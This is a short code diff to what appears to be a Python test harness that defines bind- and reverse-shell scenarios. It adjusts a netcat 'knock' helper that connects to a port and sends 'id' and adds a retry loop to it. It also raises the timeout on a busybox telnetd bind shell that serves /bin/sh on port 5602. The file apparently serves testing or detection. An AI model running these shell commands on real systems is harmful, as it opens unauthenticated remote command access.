@@ -35,8 +35,9 @@ def _fifo(name: str, relay: str, shell: str = "sh -i") -> str:
 
 
 def _knock(port: int) -> str:
-    """Somebody connects and types."""
-    return f"sleep 1.5; (sleep 0.3; echo id; sleep 0.5; echo exit) | nc -w2 {INSIDE} {port}"
+    """Somebody connects, as soon as that can be done, and types."""
+    types = f"(sleep 0.3; echo id; sleep 0.5; echo exit) | nc -w2 {INSIDE} {port}"
+    return f"sleep 1; for n in $(seq 12); do {types} && break; sleep 0.2; done"
 
 
 SHELLS: Final = (
@@ -85,7 +86,7 @@ SHELLS: Final = (
     ),
     Scenario("bind shell with a terminal", "python", f'python3 -c "{_ACCEPT_PTY}"', (BIND,), ("bash",), knock=_knock(5601)),
     Scenario(
-        "bind shell by a login service", "perl", "timeout 5 busybox telnetd -F -l /bin/sh -p 5602", (BIND,),
+        "bind shell by a login service", "perl", "timeout 8 busybox telnetd -F -l /bin/sh -p 5602", (BIND,),
         ("busybox", "timeout"), knock=_knock(5602),
     ),
     Scenario(
